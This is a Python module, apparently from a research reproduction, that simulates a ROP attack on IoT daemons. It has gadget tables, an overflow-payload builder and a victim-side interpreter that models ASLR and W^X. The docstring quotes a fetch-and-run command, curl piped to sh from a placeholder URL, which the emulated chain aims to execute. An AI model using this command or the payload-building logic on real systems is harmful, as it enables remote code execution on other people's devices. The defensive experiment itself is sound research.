@@ -1,0 +1,282 @@
+"""ROP: gadget tables, the attacker-side chain builder, and the
+victim-side chain interpreter.
+
+The paper adapts English et al.'s ROP exploit so the hijacked daemon ends
+up performing::
+
+    execlp("sh", "sh", "-c", "curl -s ShellScript_URL | sh", NULL)
+
+We model ROP at the level that matters for the experiment series:
+
+* every emulated binary exposes a deterministic :class:`GadgetTable`
+  (derived from its name/version/build seed — "a significant number of
+  binaries are reused across products and vendors", §III-B, which is why
+  one chain works fleet-wide);
+* the attacker builds a byte payload from *static* gadget addresses plus
+  the ASLR slide it believes the victim has (zero when ASLR is off, the
+  leaked value after a successful info-leak);
+* the victim interprets the spilled qwords: each popped address must
+  resolve — through the victim's *actual* slide — to a gadget inside an
+  executable mapping, otherwise the process segfaults and recruitment
+  fails.  W^X and ASLR therefore behave exactly like the paper's attack
+  model says they should.
+
+String arguments travel inside the payload and are referenced by tagged
+qwords (``STR_TAG | offset``) — our stand-in for the rsp-relative
+addressing a real chain uses to find its data without a stack leak.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass
+from typing import Dict, List, Optional, Sequence, Tuple
+
+from repro.memsafety.layout import AddressSpace, SegmentationFault
+
+QWORD = 8
+#: tag marking a qword as a payload-relative string reference
+STR_TAG = 0x5354_5200_0000_0000
+STR_OFFSET_MASK = 0xFFFF_FFFF
+
+#: micro-ops our gadget alphabet provides
+OP_POP_RDI = "pop rdi ; ret"
+OP_POP_RSI = "pop rsi ; ret"
+OP_POP_RDX = "pop rdx ; ret"
+OP_POP_RCX = "pop rcx ; ret"
+OP_RET = "ret"
+OP_EXECLP = "call execlp"
+
+ALL_OPS = (OP_POP_RDI, OP_POP_RSI, OP_POP_RDX, OP_POP_RCX, OP_RET, OP_EXECLP)
+
+_POP_TARGET = {
+    OP_POP_RDI: "rdi",
+    OP_POP_RSI: "rsi",
+    OP_POP_RDX: "rdx",
+    OP_POP_RCX: "rcx",
+}
+
+
+def pack_qword(value: int) -> bytes:
+    return value.to_bytes(QWORD, "little")
+
+
+class GadgetTable:
+    """Static (pre-ASLR) gadget addresses inside one binary's text segment."""
+
+    def __init__(self, text_base: int, addresses: Dict[str, int]):
+        self.text_base = text_base
+        self.addresses = dict(addresses)
+        self.by_address = {address: op for op, address in addresses.items()}
+
+    @classmethod
+    def discover(
+        cls, build_seed: int, text_base: int, text_size: int = 0x40000
+    ) -> "GadgetTable":
+        """Deterministically "find" gadgets in a binary build.
+
+        The attacker and the loaded binary derive the same table from the
+        same build seed — modelling offline analysis of the same binary
+        the fleet ships ("we assume that Attacker can access Devs'
+        binaries and analyze them", §III-B).
+        """
+        rng = random.Random(build_seed)
+        addresses: Dict[str, int] = {}
+        used = set()
+        for op in ALL_OPS:
+            while True:
+                offset = rng.randrange(0x100, text_size - 0x10, 2)
+                if offset not in used:
+                    used.add(offset)
+                    break
+            addresses[op] = text_base + offset
+        return cls(text_base, addresses)
+
+    def address_of(self, op: str) -> int:
+        return self.addresses[op]
+
+
+@dataclass
+class SyscallRequest:
+    """What an executed chain asked the 'kernel' for."""
+
+    name: str
+    args: List[str]
+
+
+@dataclass
+class ExploitOutcome:
+    """Result of letting a hijacked process run its attacker bytes."""
+
+    kind: str  # "syscall" | "crash"
+    syscall: Optional[SyscallRequest] = None
+    crash_reason: str = ""
+
+    @property
+    def succeeded(self) -> bool:
+        return self.kind == "syscall"
+
+
+class ChainBuilder:
+    """Attacker-side: compose overflow payloads against a known binary."""
+
+    def __init__(self, gadgets: GadgetTable, slide: int = 0):
+        self.gadgets = gadgets
+        self.slide = slide
+
+    def _gadget(self, op: str) -> int:
+        return self.gadgets.address_of(op) + self.slide
+
+    def execlp_chain(self, file: str, argv: Sequence[str]) -> Tuple[int, bytes]:
+        """Build ``(first_return_address, spill_bytes)`` for an execlp call.
+
+        The first gadget address overwrites the saved return address; the
+        remaining qwords plus the string table spill past it.
+        """
+        if len(argv) > 3:
+            raise ValueError("chain supports at most three argv strings")
+        ops = [OP_POP_RDI, OP_POP_RSI, OP_POP_RDX, OP_POP_RCX]
+        strings = [file] + list(argv) + [""] * (3 - len(argv))
+        # First pass: lay out qwords with placeholder string refs; string
+        # table starts right after the final gadget qword.
+        qword_count = 0
+        for _ in strings:
+            qword_count += 2  # pop gadget + operand
+        qword_count += 1  # execlp gadget
+        # spill = qwords after the ret slot, so the first pop's *operand*
+        # is spill[0], the second pop gadget is spill[1], ...
+        table_offset = (qword_count - 1) * QWORD
+        chain: List[int] = []
+        string_table = bytearray()
+        for index, (op, text) in enumerate(zip(ops, strings)):
+            if index > 0:
+                chain.append(self._gadget(op))
+            string_offset = table_offset + len(string_table)
+            string_table.extend(text.encode() + b"\x00")
+            chain.append(STR_TAG | string_offset)
+        chain.append(self._gadget(OP_EXECLP))
+        first_return = self._gadget(ops[0])
+        spill = b"".join(pack_qword(value) for value in chain) + bytes(string_table)
+        return first_return, spill
+
+    def overflow_payload(
+        self,
+        buffer_size: int,
+        file: str,
+        argv: Sequence[str],
+        filler: bytes = b"A",
+    ) -> bytes:
+        """The full overflow blob: padding, fake RBP, chain, strings."""
+        first_return, spill = self.execlp_chain(file, argv)
+        padding = (filler * buffer_size)[:buffer_size]
+        fake_rbp = pack_qword(0x4242_4242_4242_4242)
+        return padding + fake_rbp + pack_qword(first_return) + spill
+
+    def shellcode_payload(self, buffer_size: int, shellcode: bytes,
+                          stack_address: int) -> bytes:
+        """A *code-injection* payload (return into stack shellcode).
+
+        Kept for the W^X ablation: against a W^X-enabled Dev this payload
+        must fail with a fault, which tests assert.
+        """
+        padding = (b"\x90" * buffer_size)[:buffer_size]
+        fake_rbp = pack_qword(0x4242_4242_4242_4242)
+        return padding + fake_rbp + pack_qword(stack_address) + shellcode
+
+
+class ChainInterpreter:
+    """Victim-side: run the bytes a hijacked process returns into."""
+
+    def __init__(
+        self,
+        gadgets: GadgetTable,
+        slide: int,
+        address_space: AddressSpace,
+    ):
+        self.gadgets = gadgets
+        self.slide = slide
+        self.address_space = address_space
+
+    def _resolve(self, runtime_address: int) -> str:
+        """Map a runtime address back to a gadget op, enforcing X perms."""
+        self.address_space.check_execute(runtime_address)
+        op = self.gadgets.by_address.get(runtime_address - self.slide)
+        if op is None:
+            raise SegmentationFault(
+                runtime_address, "return into non-gadget instruction stream"
+            )
+        return op
+
+    def run(self, first_return_address: int, spill: bytes) -> ExploitOutcome:
+        """Interpret the hijacked control flow; never raises — crashes are
+        reported as outcomes (the daemon process decides what a crash
+        does to it)."""
+        registers: Dict[str, int] = {}
+        try:
+            op = self._resolve(first_return_address)
+            cursor = 0
+            steps = 0
+            while True:
+                steps += 1
+                if steps > 64:
+                    raise SegmentationFault(0, "runaway chain")
+                if op in _POP_TARGET:
+                    if cursor + QWORD > len(spill):
+                        raise SegmentationFault(0, "chain ran off the stack")
+                    registers[_POP_TARGET[op]] = int.from_bytes(
+                        spill[cursor: cursor + QWORD], "little"
+                    )
+                    cursor += QWORD
+                elif op == OP_RET:
+                    pass
+                elif op == OP_EXECLP:
+                    return self._do_execlp(registers, spill)
+                # Fetch the next gadget address from the stack.
+                if cursor + QWORD > len(spill):
+                    raise SegmentationFault(0, "chain ran off the stack")
+                next_address = int.from_bytes(spill[cursor: cursor + QWORD], "little")
+                cursor += QWORD
+                op = self._resolve(next_address)
+        except SegmentationFault as fault:
+            return ExploitOutcome(kind="crash", crash_reason=str(fault))
+
+    def _do_execlp(self, registers: Dict[str, int], spill: bytes) -> ExploitOutcome:
+        args: List[str] = []
+        for register in ("rdi", "rsi", "rdx", "rcx"):
+            value = registers.get(register)
+            if value is None:
+                return ExploitOutcome(
+                    kind="crash",
+                    crash_reason=f"execlp with uninitialized {register}",
+                )
+            text = self._read_string(value, spill)
+            if text is None:
+                return ExploitOutcome(
+                    kind="crash",
+                    crash_reason=f"execlp arg in {register} dereferences junk",
+                )
+            args.append(text)
+        # Trailing empty strings model the NULL terminator.
+        while args and args[-1] == "":
+            args.pop()
+        if not args:
+            return ExploitOutcome(kind="crash", crash_reason="execlp with no path")
+        return ExploitOutcome(
+            kind="syscall",
+            syscall=SyscallRequest("execlp", args),
+        )
+
+    @staticmethod
+    def _read_string(value: int, spill: bytes) -> Optional[str]:
+        if value & ~STR_OFFSET_MASK != STR_TAG:
+            return None
+        offset = value & STR_OFFSET_MASK
+        if offset >= len(spill):
+            return None
+        end = spill.find(b"\x00", offset)
+        if end < 0:
+            return None
+        try:
+            return spill[offset:end].decode()
+        except UnicodeDecodeError:
+            return None
